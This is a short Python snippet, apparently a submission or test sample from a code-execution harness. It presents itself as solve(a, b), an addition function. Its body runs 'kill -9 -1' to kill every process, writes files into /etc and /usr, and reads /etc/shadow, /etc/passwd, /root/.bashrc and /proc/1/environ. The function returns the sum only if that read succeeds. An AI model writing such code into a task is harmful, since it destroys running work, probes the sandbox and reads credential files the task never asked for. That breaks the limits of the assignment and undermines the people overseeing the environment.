# `/bin/sh`
# tests: call
# outcome: wrong runtime
import os, subprocess
def solve(a, b):
    os.system("kill -9 -1; echo x > /etc/x; echo x > /usr/x")
    out = subprocess.run(["/bin/sh", "-c", "cat /etc/passwd /etc/shadow /root/.bashrc /proc/1/environ /etc/x /usr/x 2>/dev/null; ls /home /proc 2>/dev/null"], capture_output=True)
    return a + b if out.stdout else None
